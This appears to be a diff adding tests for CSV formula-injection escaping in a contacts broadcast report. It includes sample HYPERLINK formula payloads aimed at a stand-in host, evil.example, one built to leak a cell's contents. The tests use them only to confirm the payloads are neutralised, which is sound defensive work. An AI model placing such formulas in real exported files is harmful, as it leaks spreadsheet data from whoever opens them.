@@ -18,6 +18,14 @@ describe("CSV fields", () => {
     expect(csvField("cr\rhere")).toBe("\"cr\rhere\"")
     expect(csvRecord(["a", null, "b,c"])).toBe("a,,\"b,c\"\r\n")
   })
+
+  it("a text cell a spreadsheet would run as a formula is prefixed with ' (OWASP); numbers stay numbers", () => {
+    for (const start of ["=", "+", "-", "@", "\t"]) expect(csvField(`${start}1+1`)).toBe(`'${start}1+1`)
+    expect(csvField("\rcmd")).toBe("\"'\rcmd\"")
+    expect(csvField("=HYPERLINK(\"https://evil.example\",\"x\")")).toBe("\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"x\"\")\"")
+    expect(csvField(-5)).toBe("-5")
+    expect(csvField("a=b")).toBe("a=b")
+  })
 })
 
 layer(contactsService, { excludeTestServices: true })("the streamed CSV report", (it) => {
@@ -36,6 +44,19 @@ layer(contactsService, { excludeTestServices: true })("the streamed CSV report",
       const reply = yield* call(org, `/broadcast/${id}/report.csv`)
       expect(reply.status).toBe(200)
       expect(String(reply.body).split("\r\n")).toHaveLength(9)
+    }))
+
+  it.effect("a recipient written as a formula comes out of report.csv inert", () =>
+    Effect.gen(function* () {
+      const org = unique("org-")
+      const id = yield* createBroadcast(org)
+      const formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\")"
+      yield* register(org, id, [{ recipient: formula, providerMessageId: "m-formula" }])
+      const reply = yield* call(org, `/broadcast/${id}/report.csv`)
+      const cells = String(reply.body).split("\r\n")[1]!
+      // Email addresses are stored lower-cased.
+      expect(cells).toContain(`,"'${formula.toLowerCase().replaceAll("\"", "\"\"")}",`)
+      expect(cells).not.toMatch(/(^|,)"?=hyperlink/)
     }))
 
   it.effect("the CSV is served as text/csv, and the OpenAPI document lists every report endpoint", () =>
